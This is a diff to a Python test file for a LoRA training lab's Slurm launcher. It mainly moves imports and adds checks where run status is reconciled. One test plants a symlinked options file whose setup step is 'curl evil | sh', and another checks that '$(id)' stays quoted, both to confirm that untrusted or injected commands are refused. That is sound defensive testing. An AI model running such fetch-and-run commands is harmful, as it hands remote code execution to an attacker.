@@ -23,12 +23,13 @@ from conftest import task_rows, write_jsonl
 from test_distributed import assert_same_adapters
 
 import mlora_lab as ml
-from mlora_lab import cli
-from mlora_lab import slurm as slurm_module
-from mlora_lab.launch import _read_slurm_options, prepare_run
+from mlora_lab.lab import cli
+from mlora_lab.lab import slurm as slurm_module
+from mlora_lab.lab.launcher import prepare_run, read_slurm_options
+from mlora_lab.lab.slurm import SlurmJob, SlurmOptions, render_script
 from mlora_lab.lora import read_adapter
 from mlora_lab.rundir import RunDir, atomic_write_json, checkpoint, control, read_status, update_status
-from mlora_lab.slurm import SlurmJob, SlurmOptions, render_script
+from mlora_lab.rundir.status import JOB_MODULE
 
 # -- options and the batch script (no cluster) ------------------------------------------------------
 
@@ -96,7 +97,7 @@ def test_the_batch_script_runs_one_agent_per_node_and_quotes_every_path(tmp_path
     assert "'/opt/py env/bin/python' -m torch.distributed.run" in script
     assert '--nnodes "$SLURM_NNODES" --nproc-per-node 4' in script
     assert '--rdzv-backend c10d --rdzv-endpoint "$HEAD_ADDR:$RDZV_PORT"' in script
-    assert script.rstrip().endswith(f"-m mlora_lab.train '{run_dir}' --resume")  # quoted: $(id) stays text
+    assert script.rstrip().endswith(f"-m {JOB_MODULE} '{run_dir}' --resume")  # quoted: $(id) stays text
     for bad in ("my runs", "r%j", 'r"1', "r'1", "a\\b", "a\nb"):
         assert "must not contain whitespace, quotes" in slurm_module.run_dir_problem(tmp_path / bad)
 
@@ -104,15 +105,15 @@ def test_the_batch_script_runs_one_agent_per_node_and_quotes_every_path(tmp_path
 def test_a_slurm_json_someone_else_can_write_is_not_trusted(tmp_path):
     run = RunDir(tmp_path / "r").create()
     atomic_write_json(run.slurm_options, SlurmOptions(setup=["echo mine"]).to_dict())
-    assert _read_slurm_options(run).setup == ["echo mine"]
+    assert read_slurm_options(run).setup == ["echo mine"]
     run.slurm_options.chmod(0o666)
     with pytest.raises(ml.SpecError, match="not a file of yours that only you can write"):
-        _read_slurm_options(run)
+        read_slurm_options(run)
     run.slurm_options.unlink()
     (tmp_path / "planted.json").write_text(json.dumps({"setup": ["curl evil | sh"]}))
     run.slurm_options.symlink_to(tmp_path / "planted.json")
     with pytest.raises(ml.SpecError, match="not a file of yours"):
-        _read_slurm_options(run)
+        read_slurm_options(run)
 
 
 def test_several_nodes_on_the_local_launcher_are_refused_naming_the_launchers(llama_path, tmp_path):
@@ -182,6 +183,8 @@ def test_a_job_slurm_ended_is_failed_with_the_reason(slurm_run, state, reason, w
                     state="stopped")  # fmt: skip
     assert run.status == "failed"
     assert words in run.error and "resume it from its last checkpoint" in run.error
+    assert read_status(run.path).state == "stopped", "reading the state writes nothing"
+    assert run.reconcile() == "failed"
     status = read_status(run.path)
     assert status.state == "failed" and status.slurm_state == state and status.ended
 
@@ -224,7 +227,7 @@ def test_while_slurm_runs_the_job_the_run_directory_says_how_far_it_got(slurm_ru
 
 def test_slurm_is_asked_no_more_once_it_gave_its_verdict(slurm_run, monkeypatch):
     run = slurm_run(SlurmJob(42, "TIMEOUT", "TimeLimit"), state="running")
-    assert run.status == "failed"
+    assert run.reconcile() == "failed"  # (recorded: wait(), stop(), the CLI and the dashboard reconcile)
 
     def no_more(job_id):
         raise AssertionError("Slurm asked again")
@@ -358,10 +361,10 @@ def node_of(run: ml.Run, rank: int) -> str:
 
 
 def slurm_verdict(run: ml.Run) -> str:
-    """Slurm's final state of the run's job, once the run has seen it (reading the status asks Slurm)."""
+    """Slurm's final state of the run's job, once the run has recorded it (reconciling asks Slurm)."""
 
     def seen() -> str | None:
-        _ = run.status
+        run.reconcile()
         return read_status(run.path).slurm_state
 
     return wait_for("Slurm's verdict", seen, run, poll=0.5)
